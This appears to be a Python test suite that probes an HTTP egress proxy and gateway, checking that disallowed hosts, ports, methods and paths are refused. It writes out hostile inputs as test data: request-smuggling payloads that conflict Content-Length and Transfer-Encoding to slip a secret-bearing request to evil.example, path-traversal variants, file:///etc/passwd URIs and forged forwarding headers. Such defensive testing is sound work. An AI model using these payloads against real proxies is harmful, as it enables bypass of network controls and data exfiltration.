# Rows 42, 46, 48, 49, 50, 52 and 58: HTTP and the proxy. Argument: JSON {"suffix": random}. Rules: web.example:80 HTTP with methods
# GET, HEAD, POST and paths /ok and /ok/**; allowed.example:443.
suffix = json.loads(sys.argv[1])["suffix"]
secret = f"secret-{suffix}"


def proxied(uri, host, method="GET", fields=""):
    return plain(f"{method} {uri} HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n", 3128)


answer = get("web.example", "/ok/a?b=c")
twin(42, "the allowed request", status(answer) == 200 and body(answer).get("host") == "web.example", short(answer))
attack(42, "no answer offers HTTP/3", status(answer) == 200 and b"alt-svc" not in answer.lower(), answer[:200])
for port in [443, 80]:
    reply = ask(b"\xc0\0\0\0\1" + os.urandom(40), port=port, patience=1, tries=1)
    attack(42, f"UDP port {port} of the gateway", reply is None, reply)

twin(46, "CONNECT to the rule's port", status(connect("allowed.example:443")) == 200)
for port, reasons in [(22, ()), (80, ()), (8443, ()), (8080, ()), (444, ()), (1, ()), (65535, ()), (25, ("DeniedPort",)),
                      (53, ("DeniedPort",)), (853, ("DeniedPort",)), (465, ()), (587, ())]:
    answer = connect(f"allowed.example:{port}")
    attack(46, f"CONNECT to port {port}", (TARGET or status(answer) == 403) and refused_by(answer, *reasons), short(answer))
for target in ["allowed.example", "allowed.example:", "allowed.example:0", "allowed.example:65536", "allowed.example:+443",
               "allowed.example:0443x", "allowed.example:443:443", "allowed.example: 443", "allowed.example:https", ":443", "/", "*"]:
    answer = connect(target)
    attack(46, f"CONNECT {target!r}", denied(answer) if TARGET else status(answer) != 200, short(answer))
for target in ["evil.example:443", "denied.example:443", "EVIL.example:443", "evil.example.:443", "203.0.113.9:443"]:
    answer = connect(target)
    attack(46, f"CONNECT {target}", denied(answer), short(answer))

answer = proxied("http://web.example/ok/a", "web.example")
twin(48, "a whole URI at the proxy", status(answer) == 200, short(answer))
for uri, host in [("http://web.example/ok", "evil.example"), ("http://evil.example/ok", "web.example"),
                  ("http://web.example/ok", "web.example:81"), ("http://web.example:81/ok", "web.example"),
                  ("http://evil.example/", "evil.example"), ("https://web.example/ok", "web.example"),
                  ("https://allowed.example/ok", "allowed.example"), ("ftp://web.example/ok", "web.example"),
                  ("file:///etc/passwd", "web.example"), ("gopher://web.example/ok", "web.example"), ("/ok", "web.example"),
                  ("http://a@web.example/ok", "web.example"), ("http://web.example@evil.example/ok", "web.example"),
                  ("http:///ok", "web.example"), ("http:/ok", "web.example"), ("//web.example/ok", "web.example"),
                  ("*", "web.example"), ("web.example/ok", "web.example")]:
    answer = proxied(uri, host)
    attack(48, f"{uri} with Host {host}", denied(answer), short(answer))
for host in ["evil.example", "web.example:81", "web.example:443", "evil.example:80", "allowed.example"]:
    answer = get(host)
    attack(48, f"the transparent port with Host {host}", denied(answer), short(answer))
if TARGET:
    # No rule opens CONNECT to port 80.
    got = connect("web.example:80")
else:
    answer, stream = tunnel("web.example:80")
    stream.sendall(b"GET /ok HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    got = drain(stream)
attack(48, "another Host in a tunnel", refused_by(got, "TunnelMismatch"), short(got))


_tokens = [0]


def token():
    """What is in one request alone, and must not arrive."""
    _tokens[0] += 1
    return f"{secret}-{_tokens[0]}."


def pipelined(first_text, second_text, what):
    """A request that is allowed and one that is not, on one connection to a target: it may judge each, or end the connection."""
    mark = token()
    with dial(3128) as stream:
        try:
            stream.sendall((first_text + second_text.replace("TOKEN", mark)).encode())
        except OSError:
            pass
        answer = drain(stream, linger=0.5)
    attack(49, what, True, answer[:120], mark)


if TARGET:
    good = "GET http://web.example/ok/a HTTP/1.1\r\nHost: web.example\r\n\r\n"
    post = "POST http://web.example/ok/a HTTP/1.1\r\nHost: web.example\r\n"
    for second in ["GET http://evil.example/ok/TOKEN HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                   "GET /ok/TOKEN HTTP/1.1\r\nHost: evil.example\r\n\r\n",
                   "DELETE http://web.example/ok/TOKEN HTTP/1.1\r\nHost: web.example\r\n\r\n",
                   "GET http://web.example/TOKEN HTTP/1.1\r\nHost: web.example\r\n\r\n"]:
        pipelined(good, second, f"{second[:28]}... behind a request")
        pipelined(post + "Content-Length: 3\r\n\r\nabc", second, f"{second[:28]}... behind a body")
        pipelined(post + "Transfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n", second, f"{second[:28]}... behind chunks")
for second in [] if TARGET else ["evil.example", "web.example"]:
    text = f"GET /ok/a HTTP/1.1\r\nHost: web.example\r\n\r\nGET /ok/{secret} HTTP/1.1\r\nHost: {second}\r\n\r\n"
    answer = plain(text)
    attack(49, f"a second request at once, to {second}", answer.count(b"HTTP/1.1 ") == 1 and status(answer) == 200, answer[:200])
    with dial(80) as stream:
        stream.sendall(b"GET /ok/a HTTP/1.1\r\nHost: web.example\r\nConnection: keep-alive\r\n\r\n")
        answer = head(stream)
        try:
            stream.sendall(f"GET /ok/{secret} HTTP/1.1\r\nHost: {second}\r\n\r\n".encode())
        except OSError:
            pass
        rest = drain(stream)
    attack(49, f"a second request later, to {second}", status(answer) == 200 and b"HTTP/1.1 " not in rest, rest[:200])
for text in [] if TARGET else [f"POST /ok/a HTTP/1.1\r\nHost: web.example\r\nContent-Length: 3\r\n\r\nabcDELETE /ok/{secret} HTTP/1.1\r\nHost: web.example\r\n\r\n",
             f"POST /ok/a HTTP/1.1\r\nHost: web.example\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\nT: x\r\n\r\nDELETE /ok/{secret} HTTP/1.1\r\nHost: web.example\r\n\r\n"]:
    answer = plain(text)
    attack(49, "a second request behind a body", answer.count(b"HTTP/1.1 ") == 1, answer[:200])
twin(49, "two requests on two connections", all(status(get("web.example")) == 200 for _ in range(2)))

smuggle = f"0\r\n\r\nGET /ok/{secret} HTTP/1.1\r\nHost: evil.example\r\n\r\n"
for field in ["Content-Length: 3\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: 3",
              "Content-Length: 3\r\nContent-Length: 30", "Content-Length: 3, 30", "Content-Length: +3", "Content-Length: -3",
              "Content-Length: 0x3", "Content-Length: 3_0", "Content-Length: 99999999999999999999", "Content-Length:",
              "Content-Length : 3", "Transfer-Encoding : chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity",
              "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: \tchunked, chunked",
              "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \"chunked\"", "Transfer-Encoding: gzip, chunked",
              "X: y\r\n Transfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked",
              "X: y\0\r\nContent-Length: 3", "Transfer_Encoding: chunked", "Content_Length: 3", "Host: evil.example",
              " Host: evil.example", "X Y: z", ": z", "\r\n\r\n"[:2] + "X: y"]:
    text = f"POST /ok/a HTTP/1.1\r\nHost: web.example\r\n{field}\r\n\r\n{smuggle}"
    if TARGET:
        # It may read it in the way that the server does; what is hidden in it must not arrive.
        mark = token()
        answer = plain(text.replace(secret, mark), linger=0.5)
        attack(50, repr(field), True, short(answer), mark)
        continue
    for where, answer in [("transparent", plain(text)), ("proxy", plain(text.replace("/ok/a", "http://web.example/ok/a", 1), 3128))]:
        # What can be read in one way alone may pass, alone.
        held = status(answer) == 400 or field.startswith("\r\n") and answer.count(b"HTTP/1.1 ") == 1
        attack(50, f"{field!r} ({where})", held, short(answer))
for what, text in [("HTTP/1.0 with chunks", f"POST /ok/a HTTP/1.0\r\nHost: web.example\r\nTransfer-Encoding: chunked\r\n\r\n{smuggle}"),
                   ("lines that end in LF", f"GET /ok/{secret} HTTP/1.1\nHost: web.example\n\n"),
                   ("HTTP/0.9", f"GET /ok/{secret}\r\n\r\n"), ("HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
                   ("HTTP/1.2", "GET /ok HTTP/1.2\r\nHost: web.example\r\n\r\n"), ("two spaces", "GET  /ok HTTP/1.1\r\nHost: web.example\r\n\r\n"),
                   ("no Host", "GET /ok HTTP/1.1\r\n\r\n"), ("an empty Host", "GET /ok HTTP/1.1\r\nHost:\r\n\r\n"),
                   ("a space before the method", " GET /ok HTTP/1.1\r\nHost: web.example\r\n\r\n"),
                   ("an empty line first", "\r\nGET /ok HTTP/1.1\r\nHost: web.example\r\n\r\n"),
                   ("a head of 64 KiB", "GET /ok HTTP/1.1\r\nHost: web.example\r\nX: " + "x" * 65536 + "\r\n\r\n"),
                   ("CONNECT with a body", f"CONNECT web.example:80 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc")]:
    if TARGET:
        mark = token() if smuggle in text else None
        answer = connect("web.example:80", b"Content-Length: 3\r\n") if what.startswith("CONNECT") else plain(text.replace(secret, mark or "a"), linger=0.5)
        attack(50, what, mark or denied(answer), short(answer), mark)
        continue
    answer = plain(text, 3128 if what.startswith("CONNECT") else 80)
    attack(50, what, status(answer) in (0, 400) and b"200" not in answer[:20], short(answer))
answer = plain("POST /ok/a HTTP/1.1\r\nHost: web.example\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n")
twin(50, "a body in chunks", status(answer) == 200, short(answer))
answer = plain("POST /ok/a HTTP/1.1\r\nHost: web.example\r\nContent-Length: 3\r\n\r\nabc")
twin(50, "a body with its length", status(answer) == 200, short(answer))

fields = "Proxy-Authorization: Basic b3RoZXI6eA==\r\nX-Forwarded-For: 10.244.0.99\r\nForwarded: for=10.244.0.99\r\nX-Real-IP: 10.244.0.99\r\nVia: 1.1 x\r\nTE: trailers\r\nConnection: X-Hop\r\nX-Hop: 1\r\nX-End: 1\r\n"
answer = get("evil.example", "/ok", fields)
attack(52, "a forged identity opens nothing", denied(answer) if TARGET else status(answer) == 403, short(answer))
answer = connect("evil.example:443", fields.encode())
attack(52, "nor in a CONNECT", denied(answer) if TARGET else status(answer) == 403, short(answer))
arrived = body(get("web.example", "/ok", fields)).get("head", "").lower()
twin(52, "fields that are the server's arrive", "x-end: 1" in arrived, repr(arrived))
# A proxy that names itself in Via does as it should.
for name in ["proxy-authorization", "x-forwarded-for", "forwarded", "x-real-ip", "via: 1.1 x" if TARGET else "via", "te:", "x-hop"]:
    attack(52, f"{name} does not arrive", "x-end: 1" in arrived and name not in arrived, repr(arrived))

for line in ["GET /ok", "HEAD /ok/a", "GET /ok/a/b?c=d"]:
    answer = plain(f"{line} HTTP/1.1\r\nHost: web.example\r\n\r\n")
    twin(58, line, status(answer) == 200, short(answer))
for line in ["DELETE /ok/a", "PUT /ok/a", "PATCH /ok", "get /ok/a", "TRACE /ok", "OPTIONS *", "PROPFIND /ok", "GET /other", "GET /okay",
             "GET /", "GET /ok/../other", "GET /ok/%2e%2e/other", "GET //ok/a", "GET /ok/.%2e/other", "GET /ok%2f..%2fother", "GET /OK",
             "GET /ok/..;/other", "GET /ok\\..\\other", "GET /ok/./a", "GET /./other", "GET /x/../ok"]:
    answer = plain(f"{line} HTTP/1.1\r\nHost: web.example\r\n\r\n")
    attack(58, line, denied(answer), short(answer))
finish()
